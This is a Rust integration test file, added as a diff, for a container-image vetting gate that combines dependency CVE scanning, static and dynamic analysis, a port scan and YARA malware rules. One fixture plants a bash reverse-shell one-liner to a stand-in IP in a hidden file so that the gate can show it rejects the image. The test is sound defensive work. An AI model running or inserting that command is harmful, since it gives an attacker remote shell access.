@@ -1,0 +1,124 @@
+//! Integration: the application vetting gate (M13–M16) over the tenant
+//! image pipeline — SCA, SAST, DAST, port scan and YARA working together,
+//! including the Lesson 7 noise measurements.
+
+use genio::appsec::dast::{fuzz, FindingKind, HardenedTenantApp, VulnerableTenantApp};
+use genio::appsec::image::{ContainerImage, Interface, Layer};
+use genio::appsec::portscan::{scan as port_scan, HostExposure, ScanFinding, TlsState};
+use genio::appsec::sast::{analyze, vulnerable_sample};
+use genio::appsec::sca::{
+    app_cve_corpus, reference_tenant_image, scan as sca_scan, unused_dependencies, ScaMode,
+};
+use genio::appsec::yara::default_malware_rules;
+
+/// A registry gate decision combining all four analyses.
+fn gate(image: &ContainerImage) -> (bool, Vec<String>) {
+    let mut reasons = Vec::new();
+    if !default_malware_rules().scan_image(image).is_empty() {
+        reasons.push("malware signature".to_string());
+    }
+    for f in sca_scan(image, &app_cve_corpus(), ScaMode::WithReachability) {
+        reasons.push(format!("reachable dependency cve {}", f.cve_id));
+    }
+    (reasons.is_empty(), reasons)
+}
+
+#[test]
+fn vulnerable_image_rejected_with_reasons() {
+    let (admitted, reasons) = gate(&reference_tenant_image());
+    assert!(!admitted);
+    assert_eq!(reasons.len(), 2, "{reasons:?}");
+    assert!(reasons
+        .iter()
+        .all(|r| r.starts_with("reachable dependency")));
+}
+
+#[test]
+fn clean_image_admitted() {
+    let clean = ContainerImage::new("registry.genio/clean:1.0", Interface::Rest)
+        .layer(Layer::new().file("/app/server", b"server"))
+        .dependency("log4j-like", "2.17.0", &["log"]);
+    let (admitted, reasons) = gate(&clean);
+    assert!(admitted, "{reasons:?}");
+}
+
+#[test]
+fn malicious_image_rejected_by_yara_even_with_clean_deps() {
+    let sneaky = ContainerImage::new("registry.genio/sneaky:1.0", Interface::Rest)
+        .layer(Layer::new().file("/opt/.x", b"bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"));
+    let (admitted, reasons) = gate(&sneaky);
+    assert!(!admitted);
+    assert_eq!(reasons, vec!["malware signature"]);
+}
+
+/// Lesson 7, quantified across the gate: version-only SCA reports 5
+/// findings of which only 2 are reachable, plus one wholly unused
+/// dependency — a 60% noise rate that reachability filtering removes.
+#[test]
+fn lesson7_sca_noise_numbers() {
+    let image = reference_tenant_image();
+    let noisy = sca_scan(&image, &app_cve_corpus(), ScaMode::VersionOnly);
+    let precise = sca_scan(&image, &app_cve_corpus(), ScaMode::WithReachability);
+    assert_eq!(noisy.len(), 5);
+    assert_eq!(precise.len(), 2);
+    let noise_rate = 1.0 - precise.len() as f64 / noisy.len() as f64;
+    assert!((noise_rate - 0.6).abs() < 1e-9);
+    assert_eq!(unused_dependencies(&image), vec!["imaging"]);
+}
+
+/// Lesson 7's DAST applicability limit: the fuzzer runs only against
+/// REST-exposing images.
+#[test]
+fn lesson7_dast_applicability() {
+    let fleet = [
+        ContainerImage::new("rest-app:1", Interface::Rest),
+        ContainerImage::new("mqtt-worker:1", Interface::NonStandard("mqtt".into())),
+        ContainerImage::new("batch-job:1", Interface::NonStandard("cron batch".into())),
+        ContainerImage::new("rest-api:2", Interface::Rest),
+    ];
+    let fuzzable = fleet.iter().filter(|i| i.is_fuzzable()).count();
+    assert_eq!(fuzzable, 2, "only half the fleet has a standard interface");
+}
+
+/// The before/after of the SAST+DAST cycle: the vulnerable build fails both
+/// analyses; the fixed build passes DAST cleanly.
+#[test]
+fn sast_dast_fix_cycle() {
+    let sast = analyze(&vulnerable_sample());
+    assert!(sast.iter().any(|f| f.rule == "sql-injection"));
+    assert!(sast.iter().any(|f| f.rule == "hardcoded-credential"));
+
+    let before = fuzz(&VulnerableTenantApp::spec(), &VulnerableTenantApp);
+    assert!(before
+        .findings
+        .iter()
+        .any(|f| f.kind == FindingKind::AuthBypass));
+    assert!(before
+        .findings
+        .iter()
+        .any(|f| f.kind == FindingKind::ServerError));
+    assert!(before
+        .findings
+        .iter()
+        .any(|f| f.kind == FindingKind::Reflection));
+
+    let after = fuzz(&VulnerableTenantApp::spec(), &HardenedTenantApp);
+    assert!(after.findings.is_empty());
+    // Same spec, same request count: the comparison is apples-to-apples.
+    assert_eq!(before.requests_sent, after.requests_sent);
+}
+
+/// Deployment-time network verification: unnecessary ports and missing TLS
+/// flagged (the nmap half of M15).
+#[test]
+fn deployment_network_check() {
+    let host = HostExposure::new()
+        .listen(443, "api", TlsState::Enforced)
+        .listen(9229, "node-debug", TlsState::Plaintext);
+    let findings = port_scan(&host, &[443]);
+    assert_eq!(findings.len(), 1);
+    assert!(matches!(
+        findings[0],
+        ScanFinding::UnexpectedPort { port: 9229, .. }
+    ));
+}
